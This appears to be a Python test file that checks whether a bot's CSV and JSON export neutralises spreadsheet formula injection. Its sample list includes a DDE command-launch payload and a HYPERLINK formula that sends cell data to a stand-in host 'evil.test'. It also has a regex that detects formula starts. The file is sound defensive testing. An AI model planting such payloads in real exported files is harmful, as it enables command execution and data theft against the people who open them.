"""Files are read as they were written, by programs, and nothing in them acts on whoever opens them."""

from __future__ import annotations

import csv
import json
import re
from datetime import UTC, datetime
from io import StringIO
from typing import TYPE_CHECKING

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from bot.files.columns import FINDING, value
from bot.files.formats import Csv, Json, cell, harmless
from tests.gallery.models import HOSTILE

if TYPE_CHECKING:
    from bot.dojo.rows import Raw
    from bot.files.formats import Writer

NOON = datetime(2026, 11, 22, 12, tzinfo=UTC)
FORMULAS = [
    '=cmd|" /C calc"!A0',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tplain",
    "\rplain",
    " =1",
    "\xa0=1",
    '"=1',
    "'=1",
    "“=1",
    "\" '=1",
    "＝1",
    "＋1",
    "－1",
    "＠a",
    "\u200b=1",
    "\ufeff=1",
    '=HYPERLINK("https://evil.test/?"&A1,"click")',
]
HIDDEN = ["a;=1", 'a";=1', "a\n=1", "a\r\n+1", "a\t@b", "a; '-1", "a;\n\n =1"]
"""What begins a cell only for a program that separates cells by semicolons or tabs, or knows no quotes."""
AT_A_BEGINNING = re.compile(r"""(?:^|[;\t\r\n])[\s"“”‘’`\u200b\ufeff]*[=+\-@＝＋－＠]""")


def written(writer: Writer, *pages: list[Raw], moved: bool = False) -> bytes:
    return b"".join([writer.head(), *map(writer.rows, pages), writer.tail(moved=moved)])


def rows_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


@pytest.mark.parametrize("title", [*FORMULAS, *HIDDEN])
def test_no_text_is_taken_for_a_formula(title: str) -> None:
    [_headings, [read]] = rows_of(written(Csv({"title": "title"}), [{"title": title}]))
    assert read == harmless(title) != title
    assert not AT_A_BEGINNING.search(read)
    assert read.replace("'", "") == title.replace("'", "")


@given(st.text(st.sampled_from("=+-@;,\t\r\n \"'a1＝\xa0\u200b"), max_size=12) | st.text(max_size=12))
@example("a;=b")
def test_nothing_begins_a_formula_and_nothing_else_is_changed(text: str) -> None:
    safe = harmless(text)
    assert not AT_A_BEGINNING.search(safe)
    assert safe.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", ["plain", "a-b", "x=1", "mail@example.com", "a, b", "CVE-2026-1", "line\nline", ""])
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (None, ""),
        (True, "true"),
        (False, "false"),
        (-93, -93),
        (0.97, 0.97),
        (-1.5, -1.5),
        ("-93", "'-93"),
        ([], ""),
        (["a", "=b", None], "a, =b"),
        (["=a"], "'=a"),
        ({"=a": 1}, '{"=a": 1}'),
    ],
)
def test_numbers_stay_numbers_and_several_values_stand_in_one_cell(content: object, expected: object) -> None:
    assert cell(content) == expected


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=2), max_size=4))
def test_a_table_is_read_as_it_was_written(lines: list[list[str]]) -> None:
    content = written(Csv({"a": "a", "b": "b"}), [{"a": a, "b": b} for a, b in lines])
    assert rows_of(content) == [["a", "b"], *[[harmless(a), harmless(b)] for a, b in lines]]
    assert content.startswith(b"\xef\xbb\xbfa,b\r\n")


@pytest.mark.parametrize("title", HOSTILE.values(), ids=HOSTILE)
def test_hostile_titles_survive_both_formats(title: str) -> None:
    rows: list[Raw] = [{"id": 1, "title": title}]
    [_headings, line] = rows_of(written(Csv({"id": "id", "title": "title"}), rows))
    assert line == ["1", harmless(title).encode(errors="backslashreplace").decode()]
    assert json.loads(written(Json("all", NOON), rows))["rows"] == rows


@given(st.lists(st.lists(st.dictionaries(st.text(), st.none() | st.integers() | st.text()), max_size=3), max_size=4))
def test_a_document_is_valid_however_its_rows_come(pages: list[list[Raw]]) -> None:
    told = json.loads(written(Json("active; not duplicate", NOON), *pages, moved=True))
    assert told == {
        "basis": "active; not duplicate",
        "read_at": "2026-11-22T12:00:00+00:00",
        "rows": [row for page in pages for row in page],
        "count": sum(map(len, pages)),
        "changed_while_reading": True,
    }


def test_values_are_found_through_objects_and_lists_and_where_there_is_none() -> None:
    row = {"vulnerability_ids": [{"vulnerability_id": "CVE-1"}, {"vulnerability_id": "CVE-2"}], "related_fields": None}
    assert value(row, FINDING["vulnerability_ids"]) == ["CVE-1", "CVE-2"]
    assert value(row, FINDING["product"]) is None
    assert value({"a": {"b": 3}}, "a.b") == 3
